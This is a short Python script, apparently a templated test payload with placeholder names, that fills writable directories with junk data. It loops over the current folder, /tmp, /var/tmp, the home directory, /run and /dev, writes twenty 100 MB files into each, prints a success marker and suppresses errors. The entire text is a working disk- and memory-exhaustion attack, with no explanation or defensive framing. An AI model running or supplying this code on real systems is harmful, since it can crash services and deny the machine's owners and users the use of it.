# Files in every folder that can be written to, 2 GB in each.
import os

for folder in (".", "/tmp", "/var/tmp", os.path.expanduser("~"), "/run", "/dev"):
    try:
        for number in range(20):
            with open(f"{folder}/<name>{number}", "wb") as file:
                file.write(b"x" * (100 << 20))
        print("got" + "<through>")
    except OSError:
        pass
